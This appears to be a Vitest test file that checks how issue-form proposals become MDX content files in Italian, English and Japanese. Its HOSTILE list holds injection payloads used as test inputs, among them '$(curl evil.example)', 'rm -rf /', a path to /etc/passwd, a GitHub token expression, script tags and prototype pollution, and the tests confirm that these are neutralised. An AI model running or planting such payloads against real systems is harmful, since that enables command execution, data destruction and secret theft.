import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { LOCALES } from '#i18n/locales.ts';
import { ContentCopy } from '../content-copy.ts';
import { FORM_WORDS, ISSUE_FORMS, ISSUE_TEMPLATES, PROPOSAL_KINDS, type ProposalKind, questionsOf } from './forms.ts';
import { asMarkdown, proposedFiles, slugFor } from './files.ts';
import { parseProposal } from './parse.ts';
import { guardText } from '#text/guard.ts';
import { renderHtml } from '#text/html.ts';
import { parseText } from '#text/parse.ts';

/** The body that GitHub makes of a form. */
function bodyOf(kind: ProposalKind, locale: 'it' | 'en' | 'ja', answers: Record<string, string>): string {
  const { questions, licence } = FORM_WORDS[locale];
  return [...questionsOf(kind).map(([id]) => `### ${questions[id].label}\n\n${answers[id] ?? '_No response_'}`), `### ${licence.label}\n\n- [X] ${licence.agree}`].join('\n\n');
}

const PRACTICE = { title: 'Orti di quartiere', summary: 'Orti\ncurati dagli abitanti.', city: 'torino', lead: 'City workshop', working: 'Gli abitanti\ncurano gli orti.', sources: 'https://example.org/orti\nvedi anche https://example.org/b' };

test('the forms in .github are those made from the questions', () => {
  const folder = resolve(import.meta.dirname, '../../../.github/ISSUE_TEMPLATE');
  expect(readdirSync(folder).filter((name) => name !== 'config.yml').sort()).toEqual([...ISSUE_FORMS.keys()].sort());
  for (const [name, form] of ISSUE_FORMS) expect(parse(readFileSync(join(folder, name), 'utf8'))).toEqual(form);
  const gitlab = resolve(import.meta.dirname, '../../../.gitlab/issue_templates');
  expect(readdirSync(gitlab).sort()).toEqual([...ISSUE_TEMPLATES.keys()].sort());
  for (const [name, text] of ISSUE_TEMPLATES) expect(readFileSync(join(gitlab, name), 'utf8')).toBe(text);
});

test('a practice in Italian becomes one file, and the check names what only an editor knows', () => {
  const proposal = parseProposal(bodyOf('practice', 'it', PRACTICE).replaceAll('\n', '\r\n'))!;
  expect(proposal).toMatchObject({ kind: 'practice', locale: 'it' });
  const [file, ...others] = proposedFiles(proposal, 12, '2026-11-23');
  expect(others).toEqual([]);
  expect(file!.path).toBe('content/good-practices/orti-di-quartiere/index.it.mdx');
  expect(file!.text).toMatchInlineSnapshot(`
    "---
    # Proposal #12. The check names what is still missing.

    title: Orti di quartiere
    summary: Orti curati dagli abitanti.
    revision: 1
    checkedOn: 2026-11-23
    place:
      city: torino
      level: city
    lead:
      - city-workshop
    period: {}
    status: to-confirm
    sections:
      - how-it-works
    sources:
      - id: source-1
        url: https://example.org/orti
      - id: source-2
        url: https://example.org/b
    ---

    Orti
    curati dagli abitanti.

    ## Come funziona

    Gli abitanti
    curano gli orti.
    "
  `);
  using copy = new ContentCopy();
  copy.write(file!.path.slice('content/'.length), file!.text);
  const codes = copy.check().problems.map(({ code, field }) => `${code} ${field}`);
  expect(codes).toContain('field-missing themes');
  expect(codes).toContain('field-missing sources[0].publisher');
  expect(codes.filter((code) => !/^(?:field-missing|sources-unused)/.test(code))).toEqual([]);
});

test('words in Japanese are kept as a translation, and the original waits', () => {
  const proposal = parseProposal(bodyOf('event', 'ja', { title: '訪問', latin: 'homon 2026', summary: '概要。', start: '2026-05-01', story: '会いました。', sources: 'https://example.org' }))!;
  expect(proposedFiles(proposal, 3, '2026-11-23').map(({ path }) => path)).toEqual(['content/events/homon-2026/index.it.mdx', 'content/events/homon-2026/index.ja.mdx']);
  expect(slugFor({ ...proposal, answers: { title: '訪問' } }, 3)).toBe('proposal-3');
});

test.for(PROPOSAL_KINDS.flatMap((kind) => LOCALES.map((locale) => [kind, locale] as const)))('the form %s in %s is read back', ([kind, locale]) => {
  const answers = Object.fromEntries(questionsOf(kind).map(([id]) => [id, `${id} 1`]));
  expect(parseProposal(bodyOf(kind, locale, answers))).toEqual({ kind, locale, answers });
});

test('what is no form of ours becomes nothing', () => {
  for (const body of ['', 'hello', '### Nome\n\nx', `x\n${bodyOf('term', 'it', {})}`, 'x'.repeat(80_000)]) expect(parseProposal(body)).toBeUndefined();
  expect(proposedFiles(parseProposal(bodyOf('mistake', 'en', { page: 'x', wrong: 'y' }))!, 1, '2026-11-23')).toEqual([]);
});

const HOSTILE = [
  '---\nlayout: x\n---', '"\n__proto__: { isAdmin: true }', '!!js/function "x"', '&a [*a]', '../../../etc/passwd', '/etc/passwd', '${{ github.token }}', '$(curl evil.example)', '`id`', '"; rm -rf / #', '<script>alert(1)</script>', '{process.env.CANARY_SECRET}', 'import x from "y"', 'export const x = 1',
  '[x](javascript:alert(1))', '![x](//evil.example/x.png)', '<Claim id="x" />', '### Fonti', '### Sources\n\nx', '::set-output name=issue::1', 'a\u202Eb\u0000c', '\n```\nx\n```\n', '# h', '- a', '1. a', '| a |\n|---|', '    code', '=====', '&lt;script&gt;', '<!-- x -->', 'a\n\n\n---\n\nb', '日本語', '💥'.repeat(500),
];

test('hostile answers stay words: paths in content, YAML of plain values, text that the guard lets in', () => {
  using copy = new ContentCopy();
  const files = HOSTILE.flatMap((evil) => {
    const answers = Object.fromEntries(questionsOf('practice').map(([id]) => [id, evil]));
    const bodies = [bodyOf('practice', 'it', answers), bodyOf('practice', 'it', { ...PRACTICE, title: evil, working: evil }), bodyOf('practice', 'en', { ...PRACTICE, problem: evil })];
    return bodies.flatMap((body) => {
      const proposal = parseProposal(body);
      return proposal ? proposedFiles(proposal, 7, '2026-11-23') : [];
    });
  });
  expect(files.length).toBeGreaterThan(80);
  for (const [index, { path, text }] of files.entries()) {
    expect(path).toMatch(/^content\/good-practices\/[a-z0-9-]+\/index\.(?:it|en)\.mdx$/);
    // Each in a folder of its own, so that one run reads them all.
    copy.write(`good-practices/evil-${index}/index.it.mdx`, text);
  }
  const refused = copy.check().problems.filter(({ code }) => /^(?:yaml-|reserved|javascript|import|html|unknown-c|unknown-a|mdx-|not-in-vocabulary|unsafe|image|frontmatter|too-)/.test(code));
  expect(refused.map(({ file, line, code }) => `${code} ${copy.read(file.slice('content/'.length)).split('\n')[line - 1]}`)).toEqual([]);
  expect(({} as { isAdmin?: unknown }).isAdmin).toBeUndefined();
});

test('an answer shows as it was written', () => {
  for (const evil of HOSTILE.filter((one) => !one.includes('\n') && !/^ |import|export|\u202E/.test(one))) {
    const tree = parseText(asMarkdown(evil));
    expect(guardText(tree)).toEqual([]);
    const { intro } = renderHtml(tree, { locale: 'en', sections: [], claims: new Map(), href: (url: string) => url } as never);
    expect(intro.replaceAll(/<\/?(?:p|span)[^>]*>/g, '').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&amp;', '&')).toBe(evil);
  }
});
